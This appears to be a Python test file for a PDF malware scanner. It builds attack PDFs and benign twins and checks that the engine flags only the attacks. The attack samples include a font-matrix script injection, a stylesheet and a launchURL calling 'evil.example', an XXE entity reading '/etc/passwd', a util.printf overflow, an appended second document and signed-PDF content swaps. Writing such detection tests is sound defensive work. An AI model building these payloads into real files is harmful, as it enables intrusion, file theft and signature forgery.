"""PDF attacks of later years, made from their descriptions, and honest twins of each."""

from __future__ import annotations

import zlib

import pytest

from safecare.examine.engine import Engine

ENGINE = Engine()


def pdf(catalog: bytes = b"", page: bytes = b"", **more: bytes) -> bytes:
    """Return a PDF of one page; `more` are further objects, ``_5`` and so on."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R" + page + b">>",
        4: stream(b"", b"BT /F1 12 Tf 72 700 Td (Hello) Tj ET"),
        **{int(name[1:]): value for name, value in more.items()},
    }
    out, places = b"%PDF-1.7\n", {}
    for number, text in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    start, size = len(out), max(objects) + 1
    table = b"".join(b"%010d 00000 n \n" % places.get(number, 0) for number in range(1, size))
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        table,
        size,
        start,
    )


def stream(keys: bytes, data: bytes, *, packed: bool = True) -> bytes:
    raw = zlib.compress(data) if packed else data
    keys += b"/Filter/FlateDecode" if packed else b""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (keys, len(raw), raw)


def updated(whole: bytes, *objects: tuple[int, bytes]) -> bytes:
    """Return `whole` with a further revision that redefines `objects`."""
    places, out = {}, whole
    for number, text in objects:
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    start = len(out)
    table = b"".join(b"%d 1\n%010d 00000 n \n" % (number, places[number]) for number, _ in objects)
    before = whole.rfind(b"xref\n0")
    return out + b"xref\n%strailer\n<</Size 12/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (table, before, start)


def signed() -> bytes:
    made = pdf(
        b"/AcroForm<</SigFlags 3/Fields[5 0 R]>>",
        _5=b"<</FT/Sig/T(s)/V 6 0 R>>",
        _6=b"<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 100 300 000]/Contents<" + b"30" * 50 + b">>>",
    )
    return made.replace(b"300 000]", b"300 %03d]" % (len(made) - 300))


XFA = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>%s</xdp:xdp>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents %d 0 R>>"
FONT = b"/Resources<</Font<</F1 5 0 R>>>>"
ATTACKS = {
    "a script in a font": pdf(page=FONT, _5=b"<</Type/Font/Subtype/Type1/FontMatrix[1 2 3 4 5 (1\\); alert\\(1)]>>"),
    "a foreign stylesheet": pdf(
        b"/Metadata 5 0 R",
        _5=stream(b"/Subtype/XML", b"<?xml-stylesheet href='http://evil.example/a.xsl'?><x/>", packed=False),
    ),
    "a form that reads a file": pdf(
        b"/AcroForm<</Fields[]/XFA 5 0 R>>",
        _5=stream(b"", b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>" + XFA % b"&x;"),
    ),
    "a script in a drawing": pdf(
        page=b"/Annots[5 0 R]",
        _5=b"<</Type/Annot/Subtype/3D/3DD 6 0 R>>",
        _6=b"<</Type/3D/Subtype/U3D/OnInstantiate 7 0 R/Length 4>>\nstream\nU3D\0\nendstream",
        _7=stream(b"", b"app.launchURL('http://evil.example');"),
    ),
    "a known hole": pdf(b"/OpenAction<</S/JavaScript/JS(util.printf\\('%45000f',1\\))>>"),
    "two documents": pdf()
    + b"%PDF-1.4\n7 0 obj\n<</Type/Catalog/Pages 8 0 R>>\nendobj\n8 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    b"trailer\n<</Root 7 0 R>>\n%%EOF\n",
    "another page after signing": updated(signed(), (3, PAGE % 9), (9, stream(b"", b"BT (Pay) Tj ET"))),
    "other contents after signing": updated(signed(), (4, stream(b"", b"BT (Pay 1000) Tj ET"))),
}
HONEST = {
    "plain": pdf(),
    "written twice": pdf() + pdf(),
    "a page within the list of pages": pdf(_2=b"<</Type/Pages/Kids[<</Type/Page/Parent 2 0 R>>]/Count 1>>"),
    "a font": pdf(page=FONT, _5=b"<</Type/Font/Subtype/Type3/FontMatrix[0.001 0 0 0.001 0 0]>>"),
    "a description": pdf(
        b"/Metadata 5 0 R", _5=stream(b"/Subtype/XML", b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>", packed=False)
    ),
    "signed": signed(),
    "a proof after signing": updated(
        signed(), (1, b"<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[5 0 R]>>/DSS 9 0 R>>"), (9, b"<<>>")
    ),
    "a note after signing": updated(
        signed(),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Annots[9 0 R]>>"),
        (9, b"<</Type/Annot/Subtype/Text/Contents(seen)>>"),
    ),
    "changed, never signed": updated(pdf(), (4, stream(b"", b"BT (Other) Tj ET"))),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_are_found(name: str) -> None:
    found = ENGINE.judge(ATTACKS[name], "a.pdf")
    assert found.score >= 0.5, found.findings


@pytest.mark.parametrize("name", HONEST)
def test_honest_documents_are_clean(name: str) -> None:
    found = ENGINE.judge(HONEST[name], "a.pdf")
    assert found.score < 0.5, found.findings
